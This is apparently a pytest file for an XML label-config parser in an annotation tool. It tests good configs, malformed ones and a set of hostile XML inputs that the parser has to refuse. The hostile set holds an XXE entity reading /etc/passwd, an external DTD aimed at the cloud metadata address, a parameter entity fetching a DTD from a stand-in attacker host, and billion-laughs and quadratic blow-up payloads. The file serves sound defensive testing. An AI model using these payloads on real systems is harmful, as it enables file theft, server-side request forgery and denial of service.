"""The label-config parser on a corpus of real-world good configs and hostile or broken ones."""

from __future__ import annotations

import time

import pytest
from labelops_common.labelconfig import (
    LabelConfigError,
    parse_label_config,
    substitute_undefined_key,
    validate_result,
    validate_task_data,
)
from labelops_common.labelconfig.parser import MAX_CONFIG_BYTES, MAX_DEPTH

GOOD_CONFIGS: dict[str, tuple[str, list[str]]] = {
    "image classification": (
        """<View>
             <Image name="image" value="$image"/>
             <Choices name="choice" toName="image" choice="single-radio">
               <Choice value="Cat"/><Choice value="Dog"/>
             </Choices>
           </View>""",
        ["image"],
    ),
    "named entities": (
        """<View>
             <Labels name="label" toName="text">
               <Label value="PER" background="red"/><Label value="ORG" background="darkorange"/>
             </Labels>
             <Text name="text" value="$text"/>
           </View>""",
        ["text"],
    ),
    "bounding boxes with relations": (
        """<View>
             <Image name="img" value="$url" zoom="true"/>
             <RectangleLabels name="box" toName="img" strokeWidth="3">
               <Label value="Car"/><Label value="Person"/>
             </RectangleLabels>
             <Relations><Relation value="drives"/></Relations>
           </View>""",
        ["url"],
    ),
    "polygons, keypoints and brushes on one image": (
        """<View>
             <Image name="img" value="$image"/>
             <PolygonLabels name="poly" toName="img"><Label value="Road"/></PolygonLabels>
             <KeyPointLabels name="kp" toName="img"><Label value="Eye"/></KeyPointLabels>
             <BrushLabels name="brush" toName="img"><Label value="Sky"/></BrushLabels>
           </View>""",
        ["image"],
    ),
    "audio transcription per region": (
        """<View>
             <Audio name="audio" value="$audio"/>
             <Labels name="speaker" toName="audio"><Label value="A"/><Label value="B"/></Labels>
             <TextArea name="transcript" toName="audio" perRegion="true" editable="true"/>
           </View>""",
        ["audio"],
    ),
    "text classification with a taxonomy and a rating": (
        """<View>
             <Header value="Read the review"/>
             <Text name="review" value="$review"/>
             <Taxonomy name="topic" toName="review">
               <Choice value="Product"><Choice value="Quality"/></Choice>
             </Taxonomy>
             <Rating name="stars" toName="review" maxRating="5"/>
           </View>""",
        ["review"],
    ),
    "dynamic labels from task data": (
        """<View>
             <Text name="text" value="$text"/>
             <Labels name="label" toName="text" value="$options"/>
           </View>""",
        ["text", "options"],
    ),
    "video timeline segments": (
        """<View>
             <Video name="video" value="$video" framerate="25"/>
             <TimelineLabels name="events" toName="video"><Label value="Goal"/></TimelineLabels>
           </View>""",
        ["video"],
    ),
    "time series": (
        """<View>
             <TimeSeries name="ts" value="$csv" valueType="url" timeColumn="time">
               <Channel column="temperature"/>
             </TimeSeries>
             <TimeSeriesLabels name="label" toName="ts"><Label value="Spike"/></TimeSeriesLabels>
           </View>""",
        ["csv"],
    ),
    "pairwise comparison in nested views with html": (
        """<View>
             <View style="display: flex">
               <Text name="left" value="$left"/><Text name="right" value="$right"/>
             </View>
             <div class="hint">Pick the better answer</div>
             <Pairwise name="pw" toName="left,right"/>
           </View>""",
        ["left", "right"],
    ),
    "nested data keys": (
        """<View>
             <HyperText name="page" value="$meta.html"/>
             <Choices name="ok" toName="page"><Choice value="yes"/></Choices>
           </View>""",
        ["meta.html"],
    ),
}


@pytest.mark.parametrize("name", sorted(GOOD_CONFIGS))
def test_good_configs_parse_and_report_their_data_keys(name: str) -> None:
    text, keys = GOOD_CONFIGS[name]
    config = parse_label_config(text)
    assert config.data_keys == keys
    assert config.config_has_control_tags


def test_parsed_label_config_has_label_studio_shape() -> None:
    parsed = parse_label_config(GOOD_CONFIGS["named entities"][0]).parsed_label_config()
    assert parsed == {
        "label": {
            "type": "Labels",
            "to_name": ["text"],
            "inputs": [{"type": "Text", "value": "text"}],
            "labels": ["PER", "ORG"],
            "labels_attrs": {
                "PER": {"value": "PER", "background": "red"},
                "ORG": {"value": "ORG", "background": "darkorange"},
            },
        }
    }


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<View><Header value="&lol9;"/><Text name="t" value="$text"/></View>"""

QUADRATIC_BLOWUP = (
    '<?xml version="1.0"?><!DOCTYPE v [<!ENTITY a "'
    + "x" * 20_000
    + '">]><View><Header value="'
    + "&a;" * 2_000
    + '"/></View>'
)

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE v [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<View><Header value="&secret;"/><Text name="t" value="$text"/></View>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE View SYSTEM "http://169.254.169.254/latest/meta-data/">
<View><Text name="t" value="$text"/></View>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE v [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<View/>"""

HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "quadratic blow-up": QUADRATIC_BLOWUP,
    "external entity (XXE)": EXTERNAL_ENTITY,
    "external DTD": EXTERNAL_DTD,
    "parameter entity": PARAMETER_ENTITY,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused_before_expansion(name: str) -> None:
    started = time.perf_counter()
    with pytest.raises(LabelConfigError) as caught:
        parse_label_config(HOSTILE[name])
    assert time.perf_counter() - started < 1.0
    message = str(caught.value)
    assert "DTD" in message or "entity" in message or "not well-formed" in message
    assert "root:" not in message  # nothing from /etc/passwd


#: More refusals, with Label Studio's rules, are in test_corpus.py.
BROKEN: dict[str, tuple[str, str]] = {
    "malformed xml": ("<View><Text name='t' value='$t'></View>", "not well-formed"),
    "empty": ("   ", "empty"),
    "object without a value": ('<View><Image name="img"/></View>', "needs a value"),
    "control without a name": (
        '<View><Text name="t" value="$t"/><Choices toName="t"><Choice value="a"/></Choices></View>',
        "<Choices> needs a name",
    ),
    "control without toName": (
        '<View><Text name="t" value="$t"/><Labels name="l"><Label value="x"/></Labels></View>',
        "needs a toName",
    ),
    "label without a value": (
        '<View><Text name="t" value="$t"/><Labels name="l" toName="t"><Label/></Labels></View>',
        "<Label> needs a value",
    ),
    "duplicate names": (
        '<View><Text name="t" value="$a"/><Text name="t" value="$b"/></View>',
        'name "t" is used by more than one tag',
    ),
    "toName names nothing": (
        '<View><Text name="t" value="$t"/><Labels name="l" toName="missing"><Label value="x"/></Labels></View>',
        'toName "missing" names no tag',
    ),
}


@pytest.mark.parametrize("name", sorted(BROKEN))
def test_broken_configs_are_refused_with_a_reason(name: str) -> None:
    text, reason = BROKEN[name]
    with pytest.raises(LabelConfigError) as caught:
        parse_label_config(text)
    assert reason in str(caught.value)


def test_every_problem_is_reported_at_once() -> None:
    text = (
        '<View><Text name="t" value="$t"/><Image name="i"/>'
        '<Labels name="l" toName="nope"><Label value="A"/></Labels></View>'
    )
    with pytest.raises(LabelConfigError) as caught:
        parse_label_config(text)
    assert len(caught.value.messages) == 2


def test_size_and_depth_limits() -> None:
    huge = '<View><Header value="' + "x" * MAX_CONFIG_BYTES + '"/></View>'
    with pytest.raises(LabelConfigError, match="larger than"):
        parse_label_config(huge)
    deep = "<View>" * (MAX_DEPTH + 2) + "</View>" * (MAX_DEPTH + 2)
    with pytest.raises(LabelConfigError, match="nests deeper"):
        parse_label_config(deep)


def test_task_data_is_checked_against_the_config() -> None:
    config = parse_label_config(GOOD_CONFIGS["pairwise comparison in nested views with html"][0])
    assert validate_task_data(config, {"left": "a", "right": "b"}) == []
    assert validate_task_data(config, {"left": "a"}) == ['"right" key is expected in task data']
    nested = parse_label_config(GOOD_CONFIGS["nested data keys"][0])
    assert validate_task_data(nested, {"meta": {"html": "<p/>"}}) == []
    assert validate_task_data(nested, {"meta": {}}) != []


def test_undefined_key_becomes_the_only_data_key() -> None:
    config = parse_label_config(GOOD_CONFIGS["image classification"][0])
    assert substitute_undefined_key(config, {"$undefined$": "s3://b/1.jpg"}) == {
        "image": "s3://b/1.jpg"
    }
    two_keys = parse_label_config(GOOD_CONFIGS["pairwise comparison in nested views with html"][0])
    assert substitute_undefined_key(two_keys, {"$undefined$": 1}) == {"$undefined$": 1}


def test_results_are_checked_against_controls_and_labels() -> None:
    config = parse_label_config(GOOD_CONFIGS["named entities"][0])
    good = [
        {
            "from_name": "label",
            "to_name": "text",
            "type": "labels",
            "value": {"start": 0, "end": 4, "labels": ["PER"]},
        }
    ]
    assert validate_result(config, good) == []
    bad = [
        {"from_name": "label", "to_name": "text", "type": "labels", "value": {"labels": ["LOC"]}},
        {"from_name": "nope", "to_name": "text", "type": "labels", "value": {}},
        {"from_name": "label", "to_name": "img", "type": "choices", "value": {"labels": []}},
    ]
    errors = validate_result(config, bad)
    assert any('label "LOC"' in error for error in errors)
    assert any("result[1].from_name" in error for error in errors)
    assert any("result[2].to_name" in error for error in errors)
    assert any("result[2].type" in error for error in errors)
    dynamic = parse_label_config(GOOD_CONFIGS["dynamic labels from task data"][0])
    anything = [
        {"from_name": "label", "to_name": "text", "type": "labels", "value": {"labels": ["Z"]}}
    ]
    assert validate_result(dynamic, anything) == []
